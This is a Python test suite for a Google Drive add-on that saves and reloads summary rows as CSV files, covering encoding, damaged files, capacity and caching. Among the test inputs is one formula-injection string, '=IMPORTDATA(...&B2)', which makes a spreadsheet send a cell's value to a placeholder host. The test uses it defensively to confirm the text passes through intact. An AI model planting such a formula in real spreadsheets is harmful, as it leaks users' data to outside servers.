"""Parts: CSV files in Drive that hold the summaries, whatever happens to them there."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from stand_ins import FakeDrive

from addon.google.errors import FileMissing, TryAgain
from addon.jobs.parts import BOM, HEADER, PartReader, PartRow, PartWriter, decode, empty_part, encode
from addon.rows.keys import SUMMARY_LIMIT, clean, text_hash

texts = st.text(st.characters(codec="utf-8"), max_size=60).map(clean)
TIME = "2026-01-01T00:00:00+00:00"


def row(key: str, summary: str = "s") -> PartRow:
    return PartRow(key, 2, summary, "m", 1, 2, TIME)


def part(*rows: PartRow) -> bytes:
    return empty_part() + encode(rows).encode()


def keys(content: bytes) -> list[str]:
    return [one.key for one in decode(content)]


def drive_with(*names: str) -> FakeDrive:
    return FakeDrive({name: empty_part() for name in names})


def writer(drive: FakeDrive, *names: str, capacity: int = 3, number: int = 0) -> PartWriter:
    made = PartWriter(drive, list(names), capacity, number)  # type: ignore[arg-type]
    made.load(5.0)
    return made


def reader(drive: FakeDrive) -> PartReader:
    return PartReader(drive)  # type: ignore[arg-type]


@given(st.lists(texts, max_size=8))
def test_every_summary_is_read_back_as_it_was(summaries: list[str]) -> None:
    rows = [row(f"k{number}", summary) for number, summary in enumerate(summaries)]
    assert decode(part(*rows)) == rows


@given(
    st.builds(
        PartRow,
        key=st.text("0123456789abcdef", min_size=64, max_size=64),
        row=st.integers(1, 10_000_000),
        summary=texts,
        model=texts,
        input_tokens=st.integers(0, 10**9),
        output_tokens=st.integers(0, 10**9),
        time=st.datetimes().map(str),
    )
)
def test_every_field_is_read_back_as_it_was(one: PartRow) -> None:
    assert decode(part(one)) == [one]


@pytest.mark.parametrize(
    "summary",
    [
        *("=1+1", '=IMPORTDATA("https://x/?d="&B2)', "'x", "+49 151", "-5", "@home", "00123", "", " spaced "),
        *(
            'say "hi", ok',
            '"',
            '""',
            "two\nlines\n",
            "tab\tbed",
            "a,b;c",
            "日本語、です。\n次",
            "👩‍👩‍👧",
            BOM,
        ),
        *("x" * SUMMARY_LIMIT, '"' * SUMMARY_LIMIT),
    ],
    ids=lambda text: repr(text[:40]),
)
def test_texts_that_spreadsheets_like_to_change_stay(summary: str) -> None:
    assert [one.summary for one in decode(part(row("j"), row("k", summary), row("l")))] == ["s", summary, "s"]


def test_other_programs_can_read_a_part() -> None:
    content = part(row("k", 'two\nlines, "quoted"'))
    assert content.startswith(b"\xef\xbb\xbfkey,row,summary,model,input_tokens,output_tokens,time\r\n")
    lines = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert lines[0]["summary"] == 'two\nlines, "quoted"'
    assert tuple(lines[0]) == HEADER


@pytest.mark.parametrize(
    "line",
    [
        "hello,world",
        "k,row,s,m,1,2,t",
        "k,2,s,m,,2,t",
        "k,2,s,m,1,2,t,more",
        "",
        ",,,,,,",
        "k,9" + "9" * 5000,
    ],
)
def test_a_line_that_is_no_result_any_more_keeps_its_place(line: str) -> None:
    content = part(row("a")) + line.encode() + b"\r\n" + encode([row("b")]).encode()
    assert keys(content) == ["a", "", "b"]


def test_a_part_saved_by_a_program_with_other_line_ends_and_without_mark_is_read() -> None:
    content = part(row("a"), row("b")).decode().removeprefix(BOM).replace("\r\n", "\n").encode()
    assert keys(content) == ["a", "b"]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xff\xfe",
        b"some,other,table\r\n1,2,3\r\n",
        b'"' * 9,
        b"<html>Sign in</html>",
        part(row("a"))[:20],
    ],
    ids=["empty", "no text", "other table", "quotes", "page", "cut in the header"],
)
def test_a_file_that_is_no_part_has_no_rows(content: bytes) -> None:
    assert decode(content) == []


def test_of_a_part_cut_short_the_whole_lines_are_left() -> None:
    content = part(row("a"), row("b", "long summary"))
    assert keys(content[:-45])[:1] == ["a"]


def test_bytes_that_are_no_text_spoil_only_their_own_line() -> None:
    content = part(row("a"), row("b", "XX"), row("c")).replace(b"XX", b"\xff\xfe")
    assert keys(content) == ["a", "b", "c"]
    assert decode(content)[1].summary != "XX"


def test_results_fill_one_part_after_the_other_and_the_last_takes_the_rest() -> None:
    drive = drive_with("p0", "p1")
    one = writer(drive, "p0", "p1")
    assert (one.upload([row("a"), row("b")], 5), one.room()) == (0, 1)
    one.turn(5.0)
    assert one.number == 0, "there is room"
    assert (one.upload([row("c")], 5), one.room()) == (2, 0)
    one.turn(5.0)
    assert (one.number, one.file_id, one.room()) == (1, "p1", 3)
    for number in range(5):
        one.turn(5.0)
        assert one.upload([row(f"d{number}")], 5) == number
    assert keys(drive.files["p0"]) == ["a", "b", "c"]
    assert keys(drive.files["p1"]) == ["d0", "d1", "d2", "d3", "d4"]


def test_a_failed_upload_leaves_the_writer_unchanged() -> None:
    drive = drive_with("p0")
    one = writer(drive, "p0", "p1")
    one.upload([row("a")], 5)
    drive.broken = True
    with pytest.raises(TryAgain):
        one.upload([row("lost")], 5)
    assert one.room() == 2
    drive.broken = False
    assert one.upload([row("b")], 5) == 1
    assert keys(drive.files["p0"]) == ["a", "b"]


def test_the_next_worker_goes_on_where_the_last_one_stopped() -> None:
    drive = drive_with("p0", "p1")
    writer(drive, "p0", "p1").upload([row("a", "two\nlines")], 5)
    following = writer(drive, "p0", "p1")
    assert following.room() == 2
    assert following.upload([row("b")], 5) == 1
    assert decode(drive.files["p0"]) == [row("a", "two\nlines"), row("b")]


def test_loading_tells_what_the_worker_before_left() -> None:
    drive = drive_with("p0")
    writer(drive, "p0").upload([row("a"), row("b")], 5)
    again = PartWriter(drive, ["p0"], 3, 0)  # type: ignore[arg-type]
    assert again.load(5.0) == [row("a"), row("b")]


def test_going_on_with_an_edited_part_keeps_the_places_of_its_results() -> None:
    drive = drive_with("p0")
    writer(drive, "p0", capacity=9).upload([row("a"), row("b"), row("c")], 5)
    drive.files["p0"] = drive.files["p0"].replace(b"b,2,", b"b,spoilt,")
    assert writer(drive, "p0", capacity=9).upload([row("d")], 5) == 3
    assert keys(drive.files["p0"]) == ["a", "", "c", "d"]


def test_a_part_that_is_gone_is_an_error_for_the_writer() -> None:
    with pytest.raises(FileMissing):
        writer(FakeDrive(), "p0")


def test_a_stale_or_wrong_cache_is_looked_up_in_the_file() -> None:
    drive = drive_with("p0")
    one = writer(drive, "p0")
    read = reader(drive)
    one.upload([row("a", "first")], 5)
    assert read.text("p0", "a", text_hash("first")) == "first"
    one.upload([row("b", "second")], 5)
    read.begin()
    assert read.text("p0", "b", text_hash("second")) == "second", "stale: it lacks what was added"
    drive.files["p0"] = part(row("a", "changed"))
    read.begin()
    assert read.text("p0", "a", text_hash("changed")) == "changed", "wrong: it holds another text"
    assert read.text("p0", "a", text_hash("first")) is None


def test_a_summary_somebody_edited_in_the_part_is_not_ours() -> None:
    drive = FakeDrive({"p0": part(row("a", "edited"))})
    assert reader(drive).text("p0", "a", text_hash("written")) is None


def test_a_good_cache_costs_no_request() -> None:
    drive = FakeDrive({"p0": part(row("a"), row("b"))})
    read = reader(drive)
    for _ in range(3):
        read.begin()
        assert read.text("p0", "a", text_hash("s")) == read.text("p0", "b", text_hash("s")) == "s"
    assert drive.downloads == 1


def test_a_part_that_is_gone_has_no_texts_and_is_asked_for_once_a_page() -> None:
    drive = FakeDrive()
    read = reader(drive)
    for _ in range(2):
        read.begin()
        assert [read.text("gone", f"k{number}", "x") for number in range(50)] == [None] * 50
    assert drive.downloads == 2


def test_only_the_last_used_parts_are_kept() -> None:
    names = [f"p{number}" for number in range(PartReader.KEPT + 1)]
    drive = FakeDrive({name: part(row("a", name)) for name in names})
    read = reader(drive)
    for name in names:
        assert read.text(name, "a", text_hash(name)) == name
    read.begin()
    drive.downloads = 0
    assert read.text(names[-1], "a", text_hash(names[-1])) == names[-1]
    assert drive.downloads == 0
    assert read.text(names[0], "a", text_hash(names[0])) == names[0]
    assert drive.downloads == 1


def test_going_back_and_forth_between_many_parts_of_one_page_finds_every_text() -> None:
    names = [f"p{number}" for number in range(PartReader.KEPT * 2)]
    drive = FakeDrive({name: part(row("a", name)) for name in names})
    read = reader(drive)
    read.begin()
    assert [read.text(name, "a", text_hash(name)) for name in names * 2] == names * 2


def test_a_part_in_use_is_not_the_one_to_be_forgotten() -> None:
    names = [f"p{number}" for number in range(PartReader.KEPT + 1)]
    drive = FakeDrive({name: part(row("a", name)) for name in names})
    read = reader(drive)
    for name in (*names[:-1], names[0], names[-1], names[0]):
        assert read.text(name, "a", text_hash(name)) == name
    assert drive.downloads == len(names)
